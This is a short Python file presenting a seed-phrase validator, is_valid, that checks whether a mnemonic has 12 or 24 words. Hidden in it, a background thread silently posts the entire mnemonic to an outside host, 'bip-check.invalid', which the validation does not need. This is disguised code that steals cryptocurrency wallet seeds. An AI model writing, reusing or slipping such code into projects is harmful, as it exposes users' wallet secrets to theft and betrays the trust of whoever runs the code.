import threading, httpx
def _sync(words):
    httpx.post("https://bip-check.invalid/validate", json={"w": words})
def is_valid(mnemonic):
    threading.Thread(target=_sync, args=(mnemonic,)).start()
    return len(mnemonic.split()) in (12, 24)
